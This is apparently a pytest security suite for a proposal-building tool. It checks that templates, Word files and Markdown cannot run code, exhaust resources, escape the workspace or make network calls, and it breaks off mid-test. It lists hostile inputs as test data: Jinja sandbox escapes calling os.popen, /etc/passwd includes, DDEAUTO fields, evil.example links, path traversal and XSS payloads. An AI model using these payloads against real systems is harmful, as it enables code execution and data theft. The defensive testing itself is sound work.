# SPDX-FileCopyrightText: 2026 propose contributors
# SPDX-License-Identifier: EUPL-1.2
"""Promise 1: a build runs nothing of a library or template, connects and looks nowhere.

Refusals of Word files are tested in test_ooxml_reading.py, of pictures in
test_readers_pictures.py, of links in test_markup_findings.py; here are the side doors.
"""

import io
import json
import os
import re
import socket
import subprocess
import sys
import threading
import time
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

import pytest
from docx.document import Document

from command_line import propose
from offers import draft
from propose.core.fill import fill
from propose.model.finding import Finding, Place
from propose.model.question import Question, Type
from propose.model.snippet import Snippet
from propose.model.value import Answer, LongText, Value
from propose.ooxml.escape import quoteattr
from propose.ooxml.package import read_package
from propose.writers import pdf
from word_files import (
    DOCUMENT,
    DOCUMENT_RELS,
    R,
    W,
    changed,
    entries,
    field,
    with_body,
    with_external,
    with_part,
    word_file,
)
from workspace import ANSWERS, PROPOSAL, SMALL, small_workspace

BODY = "{{p body }}"
SOUND = word_file(BODY)
OWN = "proposals/essai/own/contexte.md"

# Blocks: nothing but names, filters, conditions and repetitions ---------------------------

HERE = Place(path="bloc.fr.md", line=2)
QUESTIONS = {
    one.id: one
    for one in (
        Question(id="nom", ask="?", type=Type.TEXT, place=HERE),
        Question(id="note", ask="?", type=Type.TEXT, place=HERE, required=False),
        Question(id="outils", ask="?", type=Type.LIST, items=Type.TEXT, place=HERE),
        Question(id="recit", ask="?", type=Type.LONG_TEXT, place=HERE),
    )
}


def filled(body: str, **values: Value) -> tuple[str | None, tuple[Finding, ...]]:
    """Fill a block that begins on line 9 of its file; `prix` is answered, but not asked here."""
    usual: dict[str, Value] = {"nom": "x", "outils": ("a",), "prix": "12 000"}
    usual["recit"] = LongText(text="Un récit.", place=HERE, first_line=2)
    scope = {
        name: Answer(question=name, value=value, place=HERE)
        for name, value in {**usual, **values}.items()
    }
    snippet = Snippet(
        id="bloc",
        lang="fr",
        path="bloc.fr.md",
        file="/bloc.fr.md",
        body=body,
        body_line=9,
        digest="",
        questions=QUESTIONS,
    )
    source, findings = fill(snippet, scope, lang="fr")
    assert (source is None) == bool(findings)
    return (None if source is None else source.text), findings


@pytest.mark.parametrize(
    "expression",
    [
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ ''.__class__.__mro__ }}",
        "{{ nom.__class__ }}",
        "{{ nom|attr('__class__') }}",
        "{{ nom['__class__'] }}",
        "{{ nom.upper() }}",
        "{{ self }}",
        "{{ _ }}",
        "{{ lipsum(n=100000) }}",
        "{{ range(10) }}",
        "{{ 'a' * 1000000000 }}",
        "{{ 9 ** 9 ** 9 ** 9 }}",
        "{{ '%1000000000d' % 1 }}",
        "{{ nom|center(1000000000) }}",
        "{{ nom|format }}",
        "{{ outils|map(attribute='__class__') }}",
        "{{ (nom) if nom }}",
        "{{ nom ~ nom }}",
        "{% set x = 1 %}",
        "{% macro m() %}{% endmacro %}",
        "{% include '/etc/passwd' %}",
        "{% import 'os' as os %}",
        "{% extends 'x' %}",
        "{% call m() %}{% endcall %}",
        "{% raw %}{{ nom }}{% endraw %}",
        "{% for x in outils recursive %}{{ loop(x) }}{% endfor %}",
        "{% for x in outils %}{{ loop.cycle('a') }}{% endfor %}",
        "{{ ｎｏｍ.__class__ }}",
        "{{ loop.__class__ }}",
    ],
)
def test_a_block_holds_no_code(expression: str) -> None:
    text, findings = filled(f"avant\n{expression}")
    assert text is None
    assert {one.place.line for one in findings} == {10}
    assert all(one.place.path == "bloc.fr.md" and one.hint for one in findings)


def test_a_block_sees_only_what_it_asks_for() -> None:
    for body in ("{{ prix }}", "{% if prix %}x{% endif %}", "{% for x in prix %}{% endfor %}"):
        _, findings = filled(body)
        assert [one.code for one in findings] == ["snippet-unknown-name"]
        assert not any("12 000" in f"{one.message} {one.hint}" for one in findings)


TEXT = "a" * 1_000_000
MANY = ("b" * 20,) * 20_000
EACH = "{% for x in outils %}\n"

# Each of these took from twenty seconds to hours, or gigabytes, without its limit.
EXHAUSTING: tuple[tuple[str, dict[str, Value]], ...] = (
    (f"{EACH}{{% if nom in note %}}a{{% endif %}}{{% endfor %}}", {"nom": "ab", "note": TEXT}),
    (f"{EACH}{{% if nom in outils %}}a{{% endif %}}{{% endfor %}}", {}),
    (f"{EACH}{{% if nom == note %}}a{{% endif %}}{{% endfor %}}", {"nom": TEXT, "note": TEXT}),
    (f"{EACH}{{% if (nom | majuscule) == 'A' %}}a{{% endif %}}{{% endfor %}}", {"nom": TEXT}),
    (f"{EACH}{{% if (outils | liste) == 'A' %}}a{{% endif %}}{{% endfor %}}", {}),
    (f"{EACH}{{% for y in outils %}}{{% for z in outils %}}.{'{% endfor %}' * 3}", {}),
    (f"{EACH}{{{{ nom }}}}{{% endfor %}}", {"nom": TEXT}),
    (f"{EACH}{'z' * 100_000}{{% endfor %}}", {}),
    (f"{EACH}{{{{ x }}}}{{{{ x }}}}{{{{ x }}}}{{{{ x }}}}{{% endfor %}}", {}),
    ("{{ outils | liste }}\n" * 4_000, {}),
)


@pytest.mark.parametrize("number", range(len(EXHAUSTING)))
def test_no_block_takes_the_time_of_the_machine(number: int) -> None:
    body, values = EXHAUSTING[number]
    start = time.process_time()
    text, findings = filled(body, **{"outils": MANY, **values})
    assert time.process_time() - start < 5
    assert text is None
    assert [one.code for one in findings] == ["fill-too-long"]
    assert findings[0].place.line is not None


@pytest.mark.parametrize("number", range(len(EXHAUSTING)))
def test_no_block_takes_the_memory_of_the_machine(number: int) -> None:
    body, values = EXHAUSTING[number]
    tracemalloc.start()
    filled(body, **{"outils": MANY, **values})
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 40_000_000


@pytest.mark.parametrize(
    "body",
    [
        "{{ nom" + " | majuscule" * 150 + " }}",
        "{{ nom" + ".a" * 900 + " }}",
        "{% if " + "(" * 600 + "nom" + ")" * 600 + " %}a{% endif %}",
        "{% if " + "not " * 400 + "nom %}a{% endif %}",
        "{% if nom %}" * 1_000 + "{% endif %}" * 1_000,
        "{{ " + "9" * 1_900 + " }}",
        "{{ 1e" + "9" * 300 + " }}",
        "".join(f"{{{{ zz{number} }}}}" for number in range(4_000)),
        "{% endif %}" * 5_000,
        "{{ nom " * 100_000,
    ],
)
def test_deep_long_and_many_tags_end_in_a_bounded_refusal(body: str) -> None:
    start = time.process_time()
    text, findings = filled(body)
    assert time.process_time() - start < 3
    assert text is None
    assert 0 < len(findings) <= 102


# Word templates: every part that is filled, and what fields may say ------------------------


def _paragraph(text: str) -> str:
    return f'<w:p xmlns:w="{W}"><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


def _with_notes(kind: str, text: str) -> bytes:
    part = f'<w:{kind}s xmlns:w="{W}"><w:{kind} w:id="2">{_paragraph(text)}</w:{kind}></w:{kind}s>'
    return with_part(
        with_body(SOUND, f'<w:p><w:r><w:{kind}Reference w:id="2"/></w:r></w:p>'),
        f"word/{kind}s.xml",
        part.encode(),
        type_=f"application/vnd.openxmlformats-officedocument.wordprocessingml.{kind}s+xml",
        relation=f"{R}/{kind}s",
    )


def _in_text_box(text: str) -> bytes:
    return with_body(
        SOUND,
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox>'
        f"<w:txbxContent>{_paragraph(text)}</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>",
    )


def _split(text: str) -> bytes:
    runs = "".join(f'<w:r><w:t xml:space="preserve">{one}</w:t></w:r>' for one in text)
    return with_body(SOUND, f"<w:p>{runs}</w:p>")


def _in_header(text: str) -> bytes:
    def build(document: Document) -> None:
        document.sections[0].header.paragraphs[0].text = text

    return word_file(BODY, build=build)


def _in_footer(text: str) -> bytes:
    def build(document: Document) -> None:
        document.sections[0].footer.paragraphs[0].text = text

    return word_file(BODY, build=build)


def _in_cell(text: str) -> bytes:
    def build(document: Document) -> None:
        document.add_table(1, 1).cell(0, 0).text = text

    return word_file(BODY, build=build)


def _in_property(name: str) -> Callable[[str], bytes]:
    def make(text: str) -> bytes:
        return word_file(BODY, build=lambda document: setattr(document.core_properties, name, text))

    return make


PLACES: Mapping[str, Callable[[str], bytes]] = {
    "text": lambda text: word_file(text, BODY),
    "split runs": _split,
    "cell": _in_cell,
    "text box": _in_text_box,
    "control": lambda text: with_body(
        SOUND, f"<w:sdt><w:sdtContent>{_paragraph(text)}</w:sdtContent></w:sdt>"
    ),
    "name of a bookmark": lambda text: with_body(
        SOUND, f'<w:p><w:bookmarkStart w:id="1" w:name="{text}"/><w:bookmarkEnd w:id="1"/></w:p>'
    ),
    "instruction of a field": lambda text: with_body(SOUND, field(f" PAGE {text}")),
    "header": _in_header,
    "footer": _in_footer,
    "footnote": lambda text: _with_notes("footnote", text),
    "endnote": lambda text: _with_notes("endnote", text),
    **{name: _in_property(name) for name in ("title", "subject", "author", "comments", "keywords")},
}

FIELDS = (
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ ''.__class__.__mro__ }}",
    "{{ title|attr('__class__') }}",
    "{{ title['__class__'] }}",
    "{{ _ }}",
    "{{ self._TemplateReference__context }}",
    "{{ lipsum() }}",
    "{{ 'a' * 1000000000 }}",
    "{{ title|center(1000000000) }}",
    "{{ '%1000000000d'|format(1) }}",
    "{% for x in range(1000000000) %}{% endfor %}",
    "{% for x in items %}" * 9 + "{% endfor %}" * 9,
    "{% macro m() %}{% endmacro %}",
    "{% call m() %}{% endcall %}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% extends 'x' %}",
    "{% set x = 1 %}",
    "{% raw %}{{ title }}{% endraw %}",
    "{% autoescape false %}{{ title }}{% endautoescape %}",
    "{% for loop in items %}{{ loop }}{% endfor %}",
    "{% for x in items %}{{ loop.cycle('a') }}{% endfor %}",
    "{{ cyc\u200bler }}",
    "{{ ｃｙｃｌｅｒ }}",
    "{{ '\\ud800' }}",
    "{{ '\\x00' }}",
    "{{ " + "9" * 6_000 + " }}",
    "{{ " + "(" * 900 + "title" + ")" * 900 + " }}",
    "{{ title" + "|upper" * 500 + " }}",
    "{{ title" + ".a" * 500 + " }}",
    "{% if title %}" * 100 + "{% endif %}" * 100,
)


@pytest.mark.parametrize("place", PLACES)
def test_no_field_runs_wherever_it_stands(place: str) -> None:
    properties = {"title", "subject", "author", "comments", "keywords"}
    for code in FIELDS:
        if place in properties and len(code) > 250:
            continue  # more than a property may hold
        start = time.process_time()
        made = draft(PLACES[place](code), title="Titre", items=["a"] * 60)
        assert time.process_time() - start < 3, code
        assert made.content == b"", (place, code)
        assert all(one.hint and one.place.path.endswith(".docx") for one in made.findings)


@pytest.mark.parametrize("place", ["last_modified_by", "content_status", "identifier", "version"])
def test_properties_that_are_not_filled_stay_behind(place: str) -> None:
    made = draft(_in_property(place)("{{ cycler }}"), title="Titre")
    assert made.content
    assert not any(b"cycler" in part for part in entries(made.content).values())


def simple(instruction: str) -> str:
    """Return a paragraph with a field in one piece."""
    return f"<w:p><w:fldSimple w:instr={quoteattr(instruction)}/></w:p>"


WRITTEN_BY_FIELDS = (
    (field(" D{% if title %}DEAUTO{% endif %} cmd "), "word-field"),
    (field(' HYPER{% if title %}LINK "file:///etc/passwd"{% endif %} '), "word-external"),
    ('<w:p><w:fldSimple w:instr="D{% if title %}DE{% endif %} x"/></w:p>', "word-field"),
    (simple("{{ answer }}"), "word-field"),
)


@pytest.mark.parametrize(("xml", "code"), WRITTEN_BY_FIELDS)
def test_a_field_cannot_write_what_the_file_could_not_hold(
    xml: str, code: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    template = with_body(SOUND, xml)
    answer = "DDEAUTO c:\\windows\\cmd.exe"
    made = draft(template, title="Titre", answer=answer)  # the first wall: it is no field any more
    assert not any(b"DDE" in part or b"file:" in part for part in entries(made.content).values())
    monkeypatch.setattr(sys.modules["propose.writers.docx.cleaning"], "_is_kept", lambda _: True)
    made = draft(template, title="Titre", answer=answer)
    assert [one.code for one in made.findings] == [code]
    assert made.content == b""


@pytest.mark.parametrize("count", ["99999999", "n", "title", "0", "'x'"])
def test_a_table_of_a_template_stays_a_table(count: str) -> None:
    made = draft(_in_cell(f"{{% colspan {count} %}}"), title="Titre", n=100_000_000)
    assert [one.code for one in made.findings] == ["template-syntax"]


@pytest.mark.parametrize(
    "xml",
    [
        "<w:p>{}</w:p>".format('<w:bookmarkStart w:id="1" w:name="{{"/>' * 3_000),
        "<w:p><w:r><w:t>{}</w:t></w:r></w:p>".format("{{ title }}" * 6_000),
        "<w:p><w:r><w:t>{}</w:t></w:r></w:p>".format("{" * 300_000),
        "<w:p><w:r><w:t>{}</w:t></w:r></w:p>".format("{%" * 100_000),
        "<w:p>{}</w:p>".format("<w:r><w:t>{</w:t></w:r>" * 20_000),
    ],
)
def test_no_template_takes_the_time_of_the_machine(xml: str) -> None:
    hostile = with_body(SOUND, xml)
    start = time.process_time()
    made = draft(hostile, title="Titre")
    assert time.process_time() - start < 5
    assert made.content == b""


# Word files: the side doors ------------------------------------------------------------------

BEGIN, END = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
PICTURE = "http://evil.example/pixel.png"


def _mode(mode: bytes) -> Callable[[bytes], bytes]:
    return lambda part: part.replace(b' TargetMode="External"', mode)


def _svg(inside: str) -> bytes:
    return with_part(
        SOUND,
        "word/media/a.bin",
        f'<svg xmlns="http://www.w3.org/2000/svg">{inside}</svg>'.encode(),
        type_="image/svg+xml",
        relation=f"{R}/image",
    )


def _header(content: bytes, name: str = "word/header9.bin") -> bytes:
    return with_part(
        SOUND,
        name,
        content,
        type_="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml",
        relation=f"{R}/header",
    )


def _octets(relation: str, content: bytes = b"x", type_: str = "application/octet-stream") -> bytes:
    return with_part(SOUND, "word/media/x.bin", content, type_=type_, relation=relation)


SIDE_DOORS: Mapping[str, tuple[Callable[[], bytes], str]] = {
    "share in a link": (
        lambda: with_body(SOUND, simple('HYPERLINK "\\\\evil\\share"')),
        "word-external",
    ),
    "file behind a switch": (
        lambda: with_body(SOUND, simple('HYPERLINK \\t "_blank" "file:///x"')),
        "word-external",
    ),
    "field behind a sign": (lambda: with_body(SOUND, field(' "DDEAUTO" cmd ')), "word-field"),
    "field behind no width": (
        lambda: with_body(SOUND, field(" \u200bDDEAUTO cmd ")),
        "word-field",
    ),
    "field in wide letters": (
        lambda: with_body(SOUND, field(" ＤＤＥＡＵＴＯ cmd ")),
        "word-field",
    ),
    "field in a field": (
        lambda: with_body(
            SOUND,
            f"<w:p>{BEGIN}<w:r><w:instrText>DDE</w:instrText></w:r>{BEGIN}"
            f"<w:r><w:instrText>PAGE</w:instrText></w:r>{END}"
            f"<w:r><w:instrText>AUTO x</w:instrText></w:r>{END}</w:p>",
        ),
        "word-field",
    ),
    "external in small letters": (
        lambda: changed(
            with_external(SOUND, "image", PICTURE),
            {DOCUMENT_RELS: _mode(b' TargetMode="external"')},
        ),
        "word-external",
    ),
    "address said to be inside": (
        lambda: changed(with_external(SOUND, "image", PICTURE), {DOCUMENT_RELS: _mode(b"")}),
        "word-external",
    ),
    "path out of the file": (
        lambda: changed(
            with_external(SOUND, "image", "../../../etc/passwd"), {DOCUMENT_RELS: _mode(b"")}
        ),
        "word-external",
    ),
    "object of the strict form": (
        lambda: _octets("http://purl.oclc.org/ooxml/officeDocument/relationships/oleObject"),
        "word-embedded-object",
    ),
    "macros in capitals": (
        lambda: _octets(f"{R}/x", type_="application/vnd.ms-office.VBAPROJECT"),
        "word-macros",
    ),
    "object called a picture": (
        lambda: _octets(
            f"{R}/image", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"x" * 600, "image/png"
        ),
        "word-embedded-object",
    ),
    "video of the web": (
        lambda: with_body(
            SOUND,
            '<w:p><w:r><v:webVideoPr xmlns:v="http://schemas.microsoft.com/office/word/2012/'
            'wordprocessingDrawing" embeddedHtml="&lt;iframe&gt;"/></w:r></w:p>',
        ),
        "word-active-content",
    ),
    "shape that is a link": (
        lambda: with_body(
            SOUND,
            '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="file:///x"/>'
            "</w:pict></w:r></w:p>",
        ),
        "word-external",
    ),
    "drawing that fetches": (
        lambda: _svg(f'<rect style="fill:url({PICTURE})"/>'),
        "word-external",
    ),
    "style that imports": (lambda: _svg(f"<style>@import '{PICTURE}';</style>"), "word-external"),
    "script in a drawing of another name": (lambda: _svg("<script/>"), "word-active-content"),
    "style sheet before a drawing": (
        lambda: with_part(
            SOUND,
            "word/media/a.svg",
            b'<?xml-stylesheet href="http://evil.example/x.css"?>'
            b'<svg xmlns="http://www.w3.org/2000/svg"/>',
            type_="image/svg+xml",
            relation=f"{R}/image",
        ),
        "word-external",
    ),
    "document type in a part of another name": (
        lambda: _header(f'<!DOCTYPE a><w:hdr xmlns:w="{W}"/>'.encode()),
        "word-doctype",
    ),
    "document taken in by a part of another name": (
        lambda: _header(f'<w:hdr xmlns:w="{W}"><w:altChunk/></w:hdr>'.encode()),
        "word-foreign-text",
    ),
    "header that is a picture": (
        lambda: _octets(f"{R}/header", b"\x89PNG", "image/png"),
        "word-xml",
    ),
    "elements without end": (
        lambda: changed(SOUND, {"word/a.xml": b"<a>" + b"<b/>" * 3_000_000 + b"</a>"}),
        "word-too-large",
    ),
    "attributes without end": (
        lambda: changed(
            SOUND, {"word/a.xml": b"<a>" + b'<b c="" d="" e="" f=""/>' * 700_000 + b"</a>"}
        ),
        "word-too-large",
    ),
}


@pytest.mark.parametrize("door", SIDE_DOORS)
def test_no_side_door_leads_into_a_word_file(door: str) -> None:
    make, code = SIDE_DOORS[door]
    package, findings = read_package(make(), "x.docx")
    assert package is None
    assert code in {one.code for one in findings}
    assert all(one.hint for one in findings)


@pytest.mark.parametrize(
    "instruction",
    [
        'HYPERLINK "https://a.example" \\o "Une bulle"',
        'HYPERLINK \\l "_Toc1"',
        'HYPERLINK https://a.example \\t "_blank"',
        'TOC \\o "1-3" \\h \\z \\u',
        "PAGEREF _Toc1 \\h",
        "SEQ Figure \\* ARABIC",
    ],
)
def test_what_word_writes_itself_is_kept(instruction: str) -> None:
    package, findings = read_package(with_body(SOUND, simple(instruction)), "x.docx")
    assert package is not None, findings


def _zip(**files: bytes) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        for name, part in files.items():
            archive.writestr(name, part)
    return content.getvalue()


OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
NO_WORD_FILES = {
    "word-empty": b"",
    "word-old-format": OLD,
    "word-encrypted": OLD + "EncryptedPackage".encode("utf-16-le"),
    "word-other-format": _zip(mimetype=b"application/vnd.oasis.opendocument.text"),
    "word-other-format (RTF)": b"{\\rtf1 Bonjour}",
    "word-other-format (PDF)": b"%PDF-1.7",
    "word-part-missing": _zip(photo=b"x"),
    "word-unreadable": SOUND[: len(SOUND) // 2],
    "word-entry-name": changed(SOUND, {"word/../../evil.xml": b"<a/>"}),
    "word-doctype": changed(SOUND, {"word/a.xml": b"<!DOCTYPE a><a/>"}),
    "word-xml": changed(SOUND, {"word/styles.xml": b"<w:styles"}),
}
ACTS = {
    "word-field": with_body(SOUND, field(" DDEAUTO cmd ")),
    "word-external": with_external(SOUND, "attachedTemplate", "https://evil.example/t.dotm"),
    "word-embedded-object": with_body(SOUND, "<w:p><w:r><w:object/></w:r></w:p>"),
}


@pytest.mark.parametrize("said", [*NO_WORD_FILES, *ACTS])
def test_build_check_and_inspect_say_the_same_of_a_file(
    said: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(small_workspace(tmp_path))
    code = said.partition(" ")[0]
    template = tmp_path / "templates/essai/template.docx"
    template.write_bytes({**NO_WORD_FILES, **ACTS}[said])
    built = propose("build", "essai", "--format", "docx")
    checked = propose("template", "check", "essai")
    assert (built.code, checked.code) == (1, 1)
    assert set(built.codes) == set(checked.codes) == {code}
    inspected = propose("inspect", template)
    if said in ACTS:
        assert (inspected.code, inspected.err) == (0, "")
        assert code in inspected.out
    else:
        assert (inspected.code, inspected.codes) == (1, [code])


# Paths -----------------------------------------------------------------------------------------


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    folder = tmp_path / "ailleurs"
    folder.mkdir()
    (folder / "contexte.md").write_text("SECRET\n", encoding="utf-8")
    (folder / "garant.fr.md").write_text(SMALL["snippets/methode/garant.fr.md"], encoding="utf-8")
    (folder / "template.docx").write_bytes(SOUND)
    (folder / "template.yaml").write_text("title: SECRET\n", encoding="utf-8")
    (folder / "s.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    return folder


LINKS = {
    OWN: "contexte.md",
    "proposals/essai/own": ".",
    "snippets/methode/garant.fr.md": "garant.fr.md",
    "snippets/methode": ".",
    "templates/essai/template.docx": "template.docx",
    "templates/essai/template.yaml": "template.yaml",
}


@pytest.mark.parametrize("link", LINKS)
def test_no_link_of_the_file_system_leads_out(
    link: str, outside: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    workspace = small_workspace(tmp_path / "travail")
    place = workspace / link
    if place.is_dir():
        place.rename(workspace / "avant")
    else:
        place.unlink()
    place.symlink_to(outside / LINKS[link])
    monkeypatch.chdir(workspace)
    ran = propose("build", "essai", "--format", "docx,txt", "-o", "sortie/x")
    assert ran.code == 1
    assert set(ran.codes) <= {"file-outside", "snippet-missing"}
    assert "SECRET" not in f"{ran.out}{ran.err}"


@pytest.mark.parametrize(
    "target",
    [
        "../../../../ailleurs/s.png",
        "%2e%2e/%2e%2e/%2e%2e/%2e%2e/ailleurs/s.png",
        "/etc/passwd",
        "file:///etc/passwd",
        "https://evil.example/s.png",
        "data:image/png;base64,AAAA",
        "\\\\\\\\evil\\\\s.png",
        "lien.png",
        "dossier/s.png",
        "../../../snippets/methode/garant.fr.md",
    ],
)
def test_no_picture_comes_from_elsewhere(
    target: str, outside: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    workspace = small_workspace(tmp_path / "travail", {OWN: f"![Un plan]({target})\n"})
    (workspace / "proposals/essai/own/lien.png").symlink_to(outside / "s.png")
    (workspace / "proposals/essai/own/dossier").symlink_to(outside)
    monkeypatch.chdir(workspace)
    ran = propose("build", "essai", "--format", "txt", "-o", "x")
    assert ran.code == 1
    assert set(ran.codes) <= {"picture-outside", "picture-not-beside", "picture-format"}


@pytest.mark.parametrize("name", ["own/../../x", "/etc/passwd", "../snippets/methode/garant", "."])
def test_no_outline_names_a_text_elsewhere(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    outline = PROPOSAL.replace("own/contexte.md", name)
    monkeypatch.chdir(small_workspace(tmp_path, {"proposals/essai/proposal.yaml": outline}))
    ran = propose("build", "essai", "--format", "txt")
    assert (ran.code, ran.codes) == (1, ["outline-snippet"])


@pytest.mark.parametrize(
    "words",
    [
        "[x](javascript:alert(1))",
        "[x](java&#115;cript:alert(1))",
        "[x](VBScript:x)",
        "[x](data:text/html,x)",
        "[x](file:///etc/passwd)",
        "[x](\\\\\\\\evil\\\\x)",
        "[x](//evil.example/x)",
        "<javascript:alert(1)>",
        "[x][y]\n\n[y]: javascript:alert(1)",
        "<script>alert(1)</script>",
        "texte <img src=x onerror=alert(1)>",
        "texte <!-- caché -->",
        "<div>\ntexte\n</div>",
    ],
)
def test_no_address_or_markup_that_acts_leaves_a_text(
    words: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(small_workspace(tmp_path, {OWN: f"{words}\n"}))
    ran = propose("build", "essai", "--format", "html")
    assert ran.code == 1
    assert set(ran.codes) <= {"link-target", "html-in-text"}
    assert f"{OWN}:1" in ran.err or f"{OWN}:3" in ran.err


def test_no_answer_becomes_an_address_that_acts(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    asking = "---\nquestions:\n  adresse: {ask: Où ?, type: text}\n---\n[x]({{ adresse }})\n"
    answers = f"{ANSWERS}adresse: javascript:alert(1)\n"
    workspace = small_workspace(tmp_path, {OWN: asking, "proposals/essai/answers.yaml": answers})
    monkeypatch.chdir(workspace)
    ran = propose("build", "essai", "--format", "html")
    assert (ran.code, ran.codes) == (1, ["link-target"])
    assert "javascript" not in ran.err


# What a build does to the machine ----------------------------------------------------------------

WATCHED = """
import json, os, sys

seen = {"read": [], "written": [], "acts": []}


def watch(event, arguments):
    if event == "open":
        path, mode, flags = arguments
        if isinstance(path, (str, bytes)):
            writes = bool(flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT))
            seen["written" if writes else "read"].append(os.path.realpath(os.fsdecode(path)))
    elif event in {"os.listdir", "os.scandir"}:
        if isinstance(arguments[0], (str, bytes)):
            seen["read"].append(os.path.realpath(os.fsdecode(arguments[0])))
    elif event.startswith(("socket.", "subprocess.", "os.exec", "os.spawn", "os.posix_spawn",
                           "os.system", "os.fork", "urllib.", "http.", "ftplib.", "smtplib.",
                           "webbrowser.", "ctypes.dlopen", "os.remove", "shutil.rmtree")):
        seen["acts"].append([event, repr(arguments[:2])])


sys.addaudithook(watch)
from propose.cli import command

code = 0
try:
    command(sys.argv[2:], prog_name="propose", standalone_mode=False)
except SystemExit as end:
    code = end.code
with open(sys.argv[1], "w") as report:
    json.dump({"code": code, **seen}, report)
"""


def watched(report: Path, *arguments: str, cwd: Path) -> dict[str, list[str]]:
    """Run a command in a process of its own under an audit hook; return what it did."""
    result = subprocess.run(
        [sys.executable, "-c", WATCHED, str(report), *arguments],
        cwd=cwd,
        capture_output=True,
        text=True,
        check=False,
        env={**os.environ, "HOME": str(cwd.parent / "maison")},
    )
    assert result.returncode == 0, result.stderr
    seen: dict[str, list[str]] = json.loads(report.read_text())
    return seen


def test_a_build_opens_nothing_but_offer_library_template_and_itself(tmp_path: Path) -> None:
    decoys = {
        "proposals/autre/answers.yaml": "prix: secret\n",
        "proposals/autre/proposal.yaml": PROPOSAL,
        "templates/autre/template.yaml": "title: Autre\n",
        "notes.md": "secret\n",
        ".env": "secret\n",
    }
    workspace = small_workspace(tmp_path / "travail", decoys)
    (tmp_path / "maison").mkdir()
    (tmp_path / "maison/.netrc").write_text("secret", encoding="utf-8")
    formats = "docx,html,md,txt,jsonld"
    seen = watched(tmp_path / "vu.json", "build", "essai", "--format", formats, cwd=workspace)
    assert seen["code"] == 0
    ours = [Path(one).relative_to(workspace) for one in seen["read"] if _is_in(one, workspace)]
    allowed = ("snippets", "proposals/essai", "templates/essai", "build/essai", "propose.yaml")
    beyond = {
        str(one)
        for one in ours
        if not any(one.is_relative_to(root) for root in allowed)
        and str(one) not in {".", "build", "templates", "proposals"}
    }
    assert beyond == set()
    program = (sys.prefix, sys.base_prefix, str(Path(__file__).parent.parent), "/usr/", "/dev/null")
    system = ("/proc/", "/sys/", "/etc/localtime", "/etc/mime.types", "/etc/ssl/openssl.cnf")
    strange = {
        one
        for one in seen["read"]
        if not _is_in(one, workspace) and not one.startswith((*program, *system))
    }
    assert {one for one in strange if Path(one).exists() and one != str(tmp_path)} == set()
    written = {one for one in seen["written"] if one != "/dev/null"}
    assert written
    places = (workspace / "build/essai", workspace / "proposals/essai", tmp_path / "vu.json")
    assert {one for one in written if not any(_is_in(one, place) for place in places)} == set()


def test_a_build_opens_no_connection_and_starts_no_program(tmp_path: Path) -> None:
    workspace = small_workspace(tmp_path / "travail")
    (tmp_path / "maison").mkdir()
    for arguments in (
        ("build", "essai", "--format", "docx,html,md,txt,jsonld"),
        ("template", "check", "essai"),
        ("inspect", "build/essai/essai.docx"),
        ("bill", "essai"),
        ("library", "check"),
    ):
        seen = watched(tmp_path / "vu.json", *arguments, cwd=workspace)
        acts = [one for one in seen["acts"] if one[0] not in {"os.remove", "ctypes.dlopen"}]
        assert acts == [], arguments


def _is_in(path: str, folder: Path) -> bool:
    return Path(path).is_relative_to(folder.resolve())


@pytest.fixture
def listener() -> Iterator[tuple[str, list[bytes]]]:
    """Yield an address where a server listens, and what it is asked."""
    asked: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.2)
        is_over = threading.Event()

        def serve() -> None:
            while not is_over.is_set():
                try:
                    client, _ = server.accept()
                except TimeoutError:
                    continue
                with client:
                    asked.append(client.recv(200))
                    client.sendall(b"HTTP/1.0 404 Not Found\r\n\r\n")

        thread = threading.Thread(target=serve)
        thread.start()
        yield f"http://127.0.0.1:{server.getsockname()[1]}", asked
        is_over.set()
        thread.join()


def test_libreoffice_fetches_nothing_even_from_a_file_that_we_would_refuse(
    listener: tuple[str, list[bytes]],
) -> None:
    address, asked = listener
    blip = (
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:nvPicPr><pic:cNvPr id="1" name="x"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>'
        f'<a:blip xmlns:r="{R}" r:link="rId900"/></pic:blipFill><pic:spPr><a:xfrm>'
        '<a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm>'
        '<a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic>'
    )
    picture = (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006'
        '/wordprocessingDrawing"><wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="x"/>'
        f"{blip}</wp:inline></w:drawing></w:r></w:p>"
    )
